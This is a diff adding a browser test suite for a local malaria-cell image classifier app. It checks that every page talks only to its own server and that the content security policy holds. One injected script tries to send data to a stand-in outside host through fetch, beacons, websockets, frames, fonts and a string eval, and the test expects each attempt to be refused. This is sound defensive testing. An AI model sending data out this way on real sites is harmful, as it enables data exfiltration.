@@ -1,0 +1,212 @@
+"""Nothing leaves this machine: a journey over every page and view, with all that the browser asks for written down.
+
+A content security policy that breaks a page shows here too: in what the browser reports, and in what is not drawn.
+"""
+
+import io
+import os
+import re
+import subprocess
+import sys
+
+import pytest
+from PIL import Image
+
+from core import overview, paths
+from core.datasets import catalogue, drawn, index
+from core.training import run
+from pages.ui import exploring, gate, judging, side_by_side, training
+from tests.browser import serving
+from tests.browser.test_journey import MINUTE, faults_of, open_page
+
+pytestmark = [pytest.mark.browser, pytest.mark.timeout(1800)]
+
+MODEL, PAIR = "sample-cells-base-cnn", "dataset=malaria-cells&a=malaria-base-cnn&b=malaria-smear-cnn"
+# What a page may lead to when a person clicks it: the source of a public data set, named beside it.
+KNOWN_PAGES = {entry.source_page for entry in catalogue.ENTRIES}
+COLLECT = """
+window.refusedByPolicy = [];
+document.addEventListener("securitypolicyviolation", (event) =>
+  window.refusedByPolicy.push(`${event.effectiveDirective} ${event.blockedURI}`));
+"""
+BUTTONS = """() => [...document.querySelectorAll("a, button, [role], [title], [data-title]")].map(
+  (one) => [one.innerText, one.title, one.dataset.title, one.ariaLabel].filter(Boolean).join(" "))"""
+AWAY = re.compile(
+    r"share( chart| this| app|\W*$)|\bcloud\b|plotly|studio|deploy|streamlit|google|chatgpt", re.IGNORECASE
+)
+LINKS = "() => [...document.querySelectorAll('a[href], area[href], form[action]')].map((one) => one.href || one.action)"
+TOOLBARS = "() => document.querySelectorAll('.modebar-btn').length"
+ATTEMPTS = """async () => {
+  const away = "https://elsewhere.invalid/";
+  await fetch(away, { method: "POST", mode: "no-cors", body: "cells" }).catch(() => null);
+  navigator.sendBeacon(away, "cells");
+  try { new WebSocket("wss://elsewhere.invalid/"); } catch { }
+  new Image().src = `${away}cells.png`;
+  for (const [tag, name] of [["script", "src"], ["iframe", "src"], ["object", "data"]]) {
+    const made = document.createElement(tag);
+    made[name] = away;
+    document.body.append(made);
+  }
+  const font = new FontFace("Elsewhere", `url(${away}font.woff2)`);
+  await font.load().catch(() => null);
+  setTimeout("window.refusedByPolicy.push('text-was-run')");
+  await new Promise((done) => setTimeout(done, 500));
+  return [...new Set(window.refusedByPolicy.map((said) => said.split(" ")[0]))].sort();
+}"""
+REFUSED = ["connect-src", "font-src", "frame-src", "img-src", "object-src", "script-src", "script-src-elem"]
+
+
+@pytest.fixture
+def trained(home, tiny_dataset):
+    """The sample data set, which the shipped model knows, and a finished training on a tiny one; returns its run."""
+    drawn.draw_dataset(overview.SAMPLE_NAME, images=overview.SAMPLE_IMAGES, seed=overview.SAMPLE_SEED)
+    index.build_index(overview.SAMPLE_NAME)
+    command = [sys.executable, "-m", "core", "train", "tiny", "--epochs", "2", "--batch-size", "16"]
+    subprocess.run(command, cwd=paths.PROJECT_FOLDER, env=os.environ | {"SECOND_LOOK_HOME": str(home)}, check=True)
+    (found,) = run.list_runs()
+    return found.id
+
+
+def list_places(run_id):
+    """The address of each page in each of its views."""
+    return [
+        "",
+        *(f"datasets?dataset=sample-cells&part={part}" for part in ("found", "split", "doctor")),
+        *(f"explore?dataset=sample-cells&view={view}" for view in exploring.VIEWS),
+        *(f"train?run={run_id}&{training.VIEW}={view}&overlay={run_id}" for view in training.VIEWS),
+        *(f"evaluate?model={MODEL}&view={view}" for view in judging.VIEWS),
+        *(f"compare?{PAIR}&view={view}" for view in side_by_side.VIEWS),
+        f"predict?model={MODEL}",
+    ]
+
+
+def open_recorded(chromium, served):
+    """A page in a context of its own, with every request and websocket of that context in `page.asked`."""
+    context = chromium.new_context(viewport={"width": 1280, "height": 1000}, accept_downloads=True)
+    context.add_init_script(COLLECT)
+    asked = []
+    context.on("request", lambda request: asked.append(request.url))
+    context.on("page", lambda page: page.on("websocket", lambda socket: asked.append(socket.url)))
+    page = context.new_page()
+    page.asked, page.faults = asked, []
+    page.on("pageerror", lambda error: page.faults.append(str(error)))
+    page.on("console", lambda said: page.faults.append(said.text) if said.type == "error" else None)
+    page.goto(served.address)
+    return page
+
+
+def settle(page):
+    """Wait until the page stands: its heading, nothing running, what is drawn later drawn."""
+    page.get_by_role("heading").first.wait_for(timeout=MINUTE)
+    page.wait_for_timeout(1000)
+    page.get_by_test_id("stStatusWidget").wait_for(state="detached", timeout=MINUTE)
+    page.wait_for_timeout(1500)
+    assert page.get_by_test_id("stException").count() == 0, page.url
+
+
+def require_at_home(page, served):
+    """What was asked for came from this server; nothing on the page leads or carries anything elsewhere."""
+    own = (f"{served.address}/", served.address.replace("http", "ws") + "/", "data:", "blob:")
+    assert [url for url in page.asked if not url.startswith(own)] == []
+    assert page.evaluate("() => window.refusedByPolicy") == [], page.url
+    assert [said for said in page.faults if "Content Security Policy" in said] == []
+    assert faults_of(page) == [], page.url
+    leading = [said for said in page.evaluate(BUTTONS) if AWAY.search(said)]
+    assert leading == [], page.url
+    links = {link for link in page.evaluate(LINKS) if not link.startswith(served.address)}
+    assert links <= KNOWN_PAGES, page.url
+
+
+def test_a_journey_over_every_page_asks_this_machine_alone(chromium, trained):
+    toolbars = {}
+    with serving.app(paths.home_folder()) as served:
+        page = open_recorded(chromium, served)
+        for place in list_places(trained):
+            page.goto(f"{served.address}/{place}")
+            settle(page)
+            require_at_home(page, served)
+            toolbars[place] = page.evaluate(TOOLBARS)
+        assert any(url.startswith("ws://") for url in page.asked)  # the recorder hears websockets
+        open_one_image(page, served)
+        open_public_sets(page, served)
+        assert page.get_by_test_id("stMainMenu").count() == 0
+        ask_with_an_upload(page, served)
+        take_a_file(page, served)
+        assert page.evaluate(ATTEMPTS) == REFUSED
+        page.context.close()
+    assert sum(count > 0 for count in toolbars.values()) >= 10, toolbars
+    assert "Traceback" not in served.log.read_text()
+
+
+def open_one_image(page, served):
+    """A picture in full, which is a figure that one can go into."""
+    image = index.read_index(overview.SAMPLE_NAME).usable["image_id"].iloc[0]
+    page.goto(f"{served.address}/explore?dataset=sample-cells&view=images&image={image}")
+    settle(page)
+    page.locator(".js-plotly-plot").first.wait_for(timeout=MINUTE)
+    require_at_home(page, served)
+
+
+def open_public_sets(page, served):
+    """The only links that lead away name where a public data set comes from, and are no requests."""
+    page.goto(f"{served.address}/datasets?dataset=sample-cells")
+    settle(page)
+    page.get_by_role("radio", name="Public", exact=True).or_(
+        page.get_by_role("button", name="Public", exact=True)
+    ).first.click()
+    settle(page)
+    require_at_home(page, served)
+
+
+def ask_with_an_upload(page, served):
+    """An image from the person's disk goes to this server, and the answer comes with its heatmap."""
+    saved = io.BytesIO()
+    Image.new("RGB", (64, 64), (200, 120, 140)).save(saved, "PNG")
+    page.goto(f"{served.address}/predict?model={MODEL}")
+    page.get_by_role("radio", name="My own image").or_(page.get_by_role("button", name="My own image")).first.click(
+        timeout=MINUTE
+    )
+    page.locator("input[type=file]").set_input_files(
+        {"name": "own.png", "mimeType": "image/png", "buffer": saved.getvalue()}
+    )
+    page.get_by_text("The model answers", exact=False).first.wait_for(timeout=MINUTE)
+    page.get_by_text("strength:").first.wait_for(timeout=MINUTE)
+    settle(page)
+    require_at_home(page, served)
+
+
+def take_a_file(page, served):
+    """A download works under the rules, from the page of the models and from a figure's own toolbar."""
+    page.goto(f"{served.address}/compare?dataset=malaria-cells&view=table")
+    settle(page)
+    with page.expect_download(timeout=MINUTE) as taken:
+        page.get_by_role("button", name="CSV", exact=True).first.click(delay=120)
+    assert taken.value.path().stat().st_size > 100
+    page.goto(f"{served.address}/train?run={run.list_runs()[0].id}")
+    chart = page.locator(".live-chart").first
+    chart.locator(".main-svg").first.wait_for(timeout=MINUTE)
+    settle(page)
+    with page.expect_download(timeout=MINUTE) as taken:
+        chart.locator(".modebar-btn[data-title*='ownload']").first.click(force=True)
+    assert taken.value.path().read_bytes().startswith(b"\x89PNG")
+    require_at_home(page, served)
+
+
+def test_no_other_page_can_hold_ours_in_a_frame(chromium, home, tmp_path):
+    holder = tmp_path / "holder.html"
+    with serving.app(home) as served:
+        holder.write_text(f'<iframe src="{served.address}/" width=800 height=600></iframe>')
+        page = chromium.new_page()
+        page.goto(holder.as_uri())
+        page.wait_for_timeout(3000)
+        assert page.frames[1].url.startswith("chrome-error:")
+        page.close()
+
+
+def test_the_server_is_started_with_the_gate(chromium, home):
+    """`streamlit run app.py`, as `make run` and README say it."""
+    with serving.app(home) as served:
+        page = open_page(chromium, served)
+        answer = page.request.get(served.address)
+        assert answer.headers["content-security-policy"] == gate.write_policy(served.address.removeprefix("http://"))
+        page.close()
